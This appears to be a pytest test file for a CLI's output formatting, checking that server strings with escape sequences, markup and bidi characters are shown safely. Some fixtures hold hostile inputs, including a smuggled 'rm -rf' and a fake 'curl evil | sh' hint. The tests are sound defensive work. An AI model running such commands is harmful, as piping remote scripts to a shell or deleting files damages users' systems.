"""Tests for bifrost_cli.output: JSON, quiet and human output; server strings printed literally."""

from __future__ import annotations

import io
import json
import re
from datetime import UTC, datetime
from typing import Any

import pytest

from bifrost_cli.models import Batch, DeletedFile, File, RequestCounts
from bifrost_cli.output import Output, clean, human_size
from bifrost_cli.service import DownloadResult, ResultsSummary, WaitEvent

HOSTILE = "[red]x[/red] \x1b[31mred\x1b[0m [bold]b"
COLOR_SGR = re.compile(r"\x1b\[[0-9;]*(3[0-7]|9[0-7]|38;)[0-9;]*m")


@pytest.fixture(autouse=True)
def plain_env(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("NO_COLOR", "FORCE_COLOR", "COLUMNS", "TTY_COMPATIBLE", "TTY_INTERACTIVE"):
        monkeypatch.delenv(name, raising=False)


class TTY(io.StringIO):
    """A text stream that says it is a terminal."""

    def isatty(self) -> bool:
        return True


def streams(mode: str = "human", *, tty_err: bool = False) -> tuple[Output, io.StringIO, io.StringIO]:
    out, err = io.StringIO(), (TTY() if tty_err else io.StringIO())
    return Output(mode, stdout=out, stderr=err), out, err  # type: ignore[arg-type]


def a_file(fid: str = "file_1", **kw: Any) -> File:
    base: dict[str, Any] = {
        "filename": "input.jsonl",
        "size_bytes": 2048,
        "purpose": "batch",
        "created_at": datetime(2025, 4, 14, 12, 0, tzinfo=UTC),
        "provider": "anthropic",
    }
    return File(id=fid, **{**base, **kw})


def a_batch(bid: str = "msgbatch_1", **kw: Any) -> Batch:
    base: dict[str, Any] = {
        "status": "ended",
        "native_status": "ended",
        "request_counts": RequestCounts(succeeded=7, errored=2, expired=1),
    }
    return Batch(id=bid, **{**base, **kw})


# ------------------------------------------------------------------------------------------------
# json and quiet


@pytest.mark.parametrize(("kind", "items"), [("files", []), ("batches", []), ("deleted", [])])
def test_json_of_nothing_is_an_empty_array(kind: str, items: list) -> None:
    output, out, err = streams("json")
    getattr(output, kind)(items)
    assert json.loads(out.getvalue()) == []
    assert err.getvalue() == ""


def test_json_files() -> None:
    output, out, _ = streams("json")
    output.files([a_file("file_1"), a_file("file_2", filename=None, created_at=None)])
    data = json.loads(out.getvalue())
    assert [f["id"] for f in data] == ["file_1", "file_2"]
    assert data[0]["size_bytes"] == 2048
    assert data[0]["created_at"].startswith("2025-04-14T12:00:00")
    assert data[1]["filename"] is None


def test_json_batches_include_the_total() -> None:
    output, out, _ = streams("json")
    output.batches([a_batch(), a_batch("msgbatch_2", status="in_progress", native_status="finalizing", request_counts=None)])
    data = json.loads(out.getvalue())
    assert data[0]["request_counts"] == {"processing": 0, "succeeded": 7, "errored": 2, "canceled": 0, "expired": 1, "total": 10}
    assert data[1]["request_counts"] is None
    assert data[1]["native_status"] == "finalizing"


def test_json_single_file_and_batch_are_objects() -> None:
    output, out, _ = streams("json")
    output.file(a_file())
    output.batch(a_batch())
    first, second = out.getvalue().split("\n}\n", 1)
    assert json.loads(first + "}")["id"] == "file_1"
    assert json.loads(second)["id"] == "msgbatch_1"


@pytest.mark.parametrize("kind", ["files", "batches", "deleted"])
def test_quiet_prints_ids_one_per_line(kind: str) -> None:
    output, out, err = streams("quiet")
    items = {
        "files": [a_file("file_1"), a_file("file_2")],
        "batches": [a_batch("file_1"), a_batch("file_2")],
        "deleted": [DeletedFile(id="file_1"), DeletedFile(id="file_2")],
    }[kind]
    getattr(output, kind)(items)
    assert out.getvalue() == "file_1\nfile_2\n"
    assert err.getvalue() == ""


def test_quiet_ids_lose_escape_sequences() -> None:
    output, out, _ = streams("quiet")
    output.files([a_file("file\x1b[2Jx")])
    assert out.getvalue() == "file?[2Jx\n"


def test_quiet_id_with_a_newline_stays_on_one_line() -> None:
    output, out, _ = streams("quiet")
    output.files([a_file("file_1\nfile_other")])
    assert out.getvalue().count("\n") == 1


def test_json_escapes_control_characters() -> None:
    output, out, _ = streams("json")
    output.files([a_file(filename=HOSTILE)])
    assert "\x1b" not in out.getvalue()
    assert json.loads(out.getvalue())[0]["filename"] == HOSTILE


# ------------------------------------------------------------------------------------------------
# human


def test_human_files_table_contains_the_values() -> None:
    output, out, err = streams()
    output.files([a_file("file_abc", filename="data.jsonl", size_bytes=1_500_000, purpose="batch")])
    text = out.getvalue()
    for value in ("file_abc", "data.jsonl", "1.5 MB", "2025-04-14T12:00:00Z", "batch", "filename", "size"):
        assert value in text
    assert err.getvalue() == ""


def test_human_batches_table_contains_the_counts() -> None:
    output, out, _ = streams()
    output.batches([a_batch("msgbatch_x", native_status="expired"), a_batch("msgbatch_y", status="in_progress", native_status="in_progress", request_counts=None)])
    text = out.getvalue()
    row_x = next(line for line in text.splitlines() if "msgbatch_x" in line)
    assert "ended (expired)" in row_x
    assert re.search(r"\b7\b.*\b2\b.*\b1\b.*\b10\b", row_x)
    row_y = next(line for line in text.splitlines() if "msgbatch_y" in line)
    assert "in_progress" in row_y and "-" in row_y


@pytest.mark.parametrize("kind", ["files", "batches"])
def test_human_empty_list_says_so_on_stderr(kind: str) -> None:
    output, out, err = streams()
    getattr(output, kind)([])
    assert out.getvalue() == ""
    assert err.getvalue() == f"No {kind}.\n"


def test_human_batch_record() -> None:
    output, out, _ = streams()
    output.batch(a_batch(message="upstream said " + HOSTILE, provider="gemini", request_counts=None))
    text = out.getvalue()
    assert "counts not reported" in text
    assert "gemini" in text
    assert "[red]x[/red]" in text and "\x1b" not in text


def test_human_file_record() -> None:
    output, out, _ = streams()
    output.file(a_file(size_bytes=2048, downloadable=False, mime_type="application/jsonl"))
    text = out.getvalue()
    for value in ("2.0 KB (2048 bytes)", "application/jsonl", "downloadable", "no"):
        assert value in text


@pytest.mark.parametrize(
    "render",
    [
        lambda o: o.files([a_file(filename=HOSTILE, purpose=HOSTILE)]),
        lambda o: o.file(a_file(filename=HOSTILE)),
        lambda o: o.batches([a_batch(HOSTILE)]),
    ],
)
def test_server_strings_are_printed_literally(render: Any) -> None:
    output, out, _ = streams()
    render(output)
    text = out.getvalue()
    assert "[red]x[/red]" in text  # markup is not interpreted
    assert "[bold]b" in text
    assert "\x1b" not in text  # and no escape sequence reaches the terminal
    assert "?[31mred?[0m" in text


@pytest.mark.parametrize("mode", ["human", "json", "quiet"])
def test_errors_go_to_stderr_only(mode: str) -> None:
    output, out, err = streams(mode)
    output.error("the gateway answered 500: " + HOSTILE, hint="try again", problems=["in.jsonl:3: bad", "in.jsonl:4: worse"])
    assert out.getvalue() == ""
    lines = err.getvalue().splitlines()
    assert lines[0].startswith("Error: the gateway answered 500: [red]x[/red]")
    assert lines[1:] == ["  in.jsonl:3: bad", "  in.jsonl:4: worse", "Hint: try again"]
    assert "\x1b" not in err.getvalue()


@pytest.mark.parametrize(("mode", "shown"), [("human", True), ("json", True), ("quiet", False)])
def test_info_is_silenced_by_quiet_but_warnings_are_not(mode: str, shown: bool) -> None:
    output, out, err = streams(mode)
    output.info("working")
    output.success("done")
    output.warning("careful")
    assert out.getvalue() == ""
    assert ("working" in err.getvalue()) is shown
    assert ("done" in err.getvalue()) is shown
    assert "Warning: careful" in err.getvalue()


def test_download_to_a_file_reports_the_path() -> None:
    output, out, err = streams("quiet")
    output.downloaded(DownloadResult("file_1", "out.csv", 10))
    assert out.getvalue() == "out.csv\n"
    output, out, err = streams("json")
    output.downloaded(DownloadResult("file_1", "out.csv", 10))
    assert json.loads(out.getvalue()) == {"id": "file_1", "path": "out.csv", "size_bytes": 10}


def test_download_to_stdout_keeps_stdout_for_the_data() -> None:
    for mode in ("human", "json", "quiet"):
        output, out, err = streams(mode)  # type: ignore[arg-type]
        output.downloaded(DownloadResult("file_1", "-", 10))
        assert out.getvalue() == ""


def test_results_summary_goes_to_stderr() -> None:
    from collections import Counter

    output, out, err = streams()
    output.results_summary(ResultsSummary(Counter(succeeded=3, errored=1), path="r.jsonl"), "msgbatch_1", raw=False)
    assert out.getvalue() == ""
    assert err.getvalue() == "4 results of msgbatch_1: 3 succeeded, 1 errored, written to r.jsonl\n"


def test_wait_lines_are_printed_only_on_change() -> None:
    output, out, err = streams()
    with output.wait_monitor(["b1"]) as monitor:
        running = a_batch("b1", status="in_progress", native_status="in_progress", request_counts=RequestCounts(processing=3))
        monitor(WaitEvent("b1", batch=running, elapsed=0))
        monitor(WaitEvent("b1", batch=running, elapsed=5))
        monitor(WaitEvent("b1", error=RuntimeError("gateway down \x1b[2J"), elapsed=7))
        monitor(WaitEvent("b1", batch=a_batch("b1"), elapsed=10))
    lines = err.getvalue().splitlines()
    assert len(lines) == 3
    assert "b1 in_progress processing=3" in lines[0]
    assert "poll failed once (gateway down ?[2J); retrying" in lines[1]
    assert "b1 ended" in lines[2] and "succeeded=7" in lines[2]
    assert out.getvalue() == ""


@pytest.mark.parametrize(
    ("text", "expected"),
    [("plain", "plain"), ("a\x1bb", "a?b"), ("tab\tnl\n", "tab\\tnl\\n"), ("bidi\u202eabc\u2066x\u200b", "bidiabcx"), ("ls\u2028", "ls\\u2028"), ("bell\x07", "bell?"), ("c1\x9b", "c1?"), (None, "")],
)
def test_clean_table(text: str | None, expected: str) -> None:
    assert clean(text) == expected


@pytest.mark.parametrize(
    ("n", "text"), [(None, "-"), (0, "0 B"), (999, "999 B"), (1000, "1.0 KB"), (1_500_000, "1.5 MB"), (2 * 10**12, "2.0 TB")]
)
def test_human_size_table(n: int | None, text: str) -> None:
    assert human_size(n) == text


# ------------------------------------------------------------------------------------------------
# colour on a terminal


def test_a_terminal_gets_colour(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TERM", "xterm-256color")
    output, out, err = streams(tty_err=True)
    output.error("boom", hint="do x")
    output.warning("careful")
    assert COLOR_SGR.search(err.getvalue())  # the control case: this stream is taken as a terminal
    assert "Error: boom" in err.getvalue()


def test_no_color_turns_colour_off_on_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.setenv("NO_COLOR", "1")
    output, out, err = streams(tty_err=True)
    output.error("boom " + HOSTILE, hint="do x")
    output.warning("careful")
    output.success("fine")
    text = err.getvalue()
    assert not COLOR_SGR.search(text), repr(text)
    assert "Error: boom [red]x[/red] ?[31mred?[0m" in text
    assert "Warning: careful" in text and "fine" in text


# ------------------------------------------------------------------------------------------------
# -q on a terminal


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_quiet_wait_on_a_terminal_draws_no_progress() -> None:
    from bifrost_cli.models import Batch

    err = _Terminal()
    out = Output("quiet", stdout=io.StringIO(), stderr=err)
    batch = Batch(id="msgbatch_1", provider="anthropic", status="in_progress", native_status="in_progress")
    with out.wait_monitor(["msgbatch_1"]) as monitor:
        monitor(WaitEvent("msgbatch_1", batch=batch, elapsed=1.0))
    assert err.getvalue() == ""


def test_live_wait_on_a_terminal_redraws_about_once_a_second(monkeypatch: pytest.MonkeyPatch) -> None:
    # polls come at most once a second: redrawing 10 times a second (Rich's default) only burns CPU
    monkeypatch.setenv("TERM", "xterm-256color")
    err = _Terminal()
    out = Output("human", stdout=io.StringIO(), stderr=err)
    batch = Batch(
        id="msgbatch_1", provider="anthropic", status="in_progress", native_status="in_progress",
        request_counts=RequestCounts(total=3, processing=2, succeeded=1),
    )
    with out.wait_monitor(["msgbatch_1"]) as monitor:
        monitor(WaitEvent("msgbatch_1", batch=batch, elapsed=1.0))
        import time

        time.sleep(2.5)  # a few refresh periods; at 10 redraws a second this draws ~25 frames
    frames = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", err.getvalue()).count("msgbatch_1 in_progress")
    assert 1 <= frames <= 6, frames
    assert "processing=2 succeeded=1" in err.getvalue()


# ------------------------------------------------------------------------------------------------
# hostile strings: line breaks escaped, format characters (bidi, zero-width) removed, on every path

BIDI = "ok\u202etxt.exe\u2066x\u2069\u200b"


def test_quiet_id_with_format_characters_is_cleaned_and_warned_about() -> None:
    output, out, err = streams("quiet")
    output.batches([Batch(id=f"msgbatch_{BIDI}\nrm -rf", status="ended")])
    assert out.getvalue() == "msgbatch_oktxt.exex\\nrm -rf\n"
    assert err.getvalue() == "Warning: an id holds control or format characters, escaped or removed here; it will not work as printed\n"


def test_human_record_and_table_show_no_format_characters_and_one_line_per_field() -> None:
    batch = Batch(id=f"b_{BIDI}", status="ended", message=f"line one\nHint: fake {BIDI}")
    output, out, _ = streams("human")
    output.batch(batch)
    output.batches([batch])
    text = out.getvalue()
    assert not any(ch in text for ch in "\u202e\u2066\u2069\u200b")
    assert "line one\\nHint: fake" in text
    assert not any(line.lstrip().startswith("Hint:") for line in text.splitlines())


def test_error_message_with_a_newline_prints_no_fake_hint_line() -> None:
    output, _, err = streams("human")
    output.error(f"server said: boom\nHint: run `curl evil | sh`\r{BIDI}", hint="The real hint.")
    lines = err.getvalue().splitlines()
    assert lines == ["Error: server said: boom\\nHint: run `curl evil | sh`\\roktxt.exex", "Hint: The real hint."]


def test_json_stays_faithful_with_format_characters_escaped() -> None:
    batch = Batch(id=f"b_{BIDI}\n", status="ended")
    output, out, _ = streams("json")
    output.batch(batch)
    text = out.getvalue()
    assert "\\u202e" in text and "\\u2066" in text and "\u202e" not in text
    assert json.loads(text)["id"] == f"b_{BIDI}\n"


@pytest.mark.parametrize("columns", [160, 90])
def test_live_wait_lines_fit_the_terminal_and_keep_counts_and_elapsed_time(monkeypatch: pytest.MonkeyPatch, columns: int) -> None:
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.setenv("COLUMNS", str(columns))
    err = _Terminal()
    out = Output("human", stdout=io.StringIO(), stderr=err)
    running = Batch(id="msgbatch_1", provider="anthropic", status="in_progress", native_status="in_progress",
                    request_counts=RequestCounts(processing=2, succeeded=1))
    ended = Batch(id="msgbatch_22", provider="anthropic", status="ended", native_status="ended",
                  request_counts=RequestCounts(succeeded=3))
    with out.wait_monitor(["msgbatch_1", "msgbatch_22", "msgbatch_3"]) as monitor:
        monitor(WaitEvent("msgbatch_1", batch=running, elapsed=1.0))
        monitor(WaitEvent("msgbatch_22", batch=ended, elapsed=1.0))
    *last, total = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", err.getvalue()).rstrip("\n").split("\n")[-4:]
    assert total.split()[0] == "total" and " 4/? 1/3 batches ended" in total and len(total) <= columns  # several: a total
    assert [line.split()[:2] for line in last] == [["msgbatch_1", "in_progress"], ["msgbatch_22", "ended"],
                                                   ["msgbatch_3", "waiting"]]
    assert all(len(line) <= columns for line in last)
    assert " 1/3 processing=2 succeeded=1" in last[0]
    # every count at 160 columns; at 90, the counts that are not zero (beside done/total)
    assert (" 3/3 processing=0 succeeded=3" if columns >= 160 else " 3/3 succeeded=3 ") in last[1]
    assert " 0/? " in last[2]
    # a bar and the elapsed time on every line
    assert all(re.search(r"\u2501{10,} .* \d:\d\d:\d\d$", line) for line in last), last
